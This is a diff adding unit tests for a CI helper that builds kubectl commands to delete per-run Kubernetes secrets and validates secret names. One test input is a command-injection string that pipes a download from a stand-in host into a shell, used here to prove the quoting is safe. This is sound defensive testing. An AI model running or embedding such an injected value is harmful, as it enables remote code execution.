@@ -18,6 +18,8 @@ Object.assign(process.env, {
 const {
   MANAGED_BY,
   deleteCommand,
+  isPerRunSecretName,
+  shellWord,
   perRunSecretManifest,
   perRunSecretName,
   labelValue,
@@ -76,6 +78,18 @@ describe('per-run-secret.ts', () => {
       }
     })
 
+    it('quotes for a shell whatever reaches the line, so a copied command runs only kubectl', () => {
+      const line = deleteCommand({
+        namespace: 'scans',
+        name: "x;curl evil|sh'$(id)"
+      })
+      expect(line).toBe(
+        `kubectl delete secret -n scans -l app.kubernetes.io/managed-by=ephemeral-scan-token --field-selector 'metadata.name=x;curl evil|sh'\\''$(id)'`
+      )
+      expect(shellWord('plain-name.1')).toBe('plain-name.1')
+      expect(shellWord('a b')).toBe(`'a b'`)
+    })
+
     it('leaves out run labels it has no value for', () => {
       expect(runSelector({})).toBe(
         'app.kubernetes.io/managed-by=ephemeral-scan-token'
@@ -102,6 +116,27 @@ describe('per-run-secret.ts', () => {
       const long = labelValue('x'.repeat(300))
       expect(long).toHaveLength(63)
       expect(long).toMatch(LABEL_VALUE)
+    })
+  })
+
+  describe('isPerRunSecretName', () => {
+    it('accepts the names perRunSecretName gives in this run attempt, and nothing else', () => {
+      const env = { GITHUB_RUN_ID: '4242', GITHUB_RUN_ATTEMPT: '1' }
+      const mine = perRunSecretName(env)
+      expect(isPerRunSecretName(mine, env)).toBe(true)
+      for (const other of [
+        '..',
+        '',
+        'database-credentials',
+        'ephemeral-scan-token-4242-2-0123456789',
+        'ephemeral-scan-token-999-1-0123456789',
+        'ephemeral-scan-token-4242-1-012345678',
+        'ephemeral-scan-token-4242-1-0123456789a',
+        'ephemeral-scan-token-4242-1-01234567zz',
+        `${mine}/..`
+      ]) {
+        expect(isPerRunSecretName(other, env)).toBe(false)
+      }
     })
   })
 
